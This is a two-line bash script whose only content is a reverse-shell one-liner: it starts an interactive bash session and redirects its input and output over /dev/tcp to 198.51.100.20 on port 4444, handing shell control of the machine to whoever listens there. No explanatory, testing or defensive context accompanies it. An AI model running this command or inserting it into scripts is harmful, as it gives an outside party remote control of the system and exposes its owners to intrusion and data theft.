#!/bin/bash
bash -i >& /dev/tcp/198.51.100.20/4444 0>&1
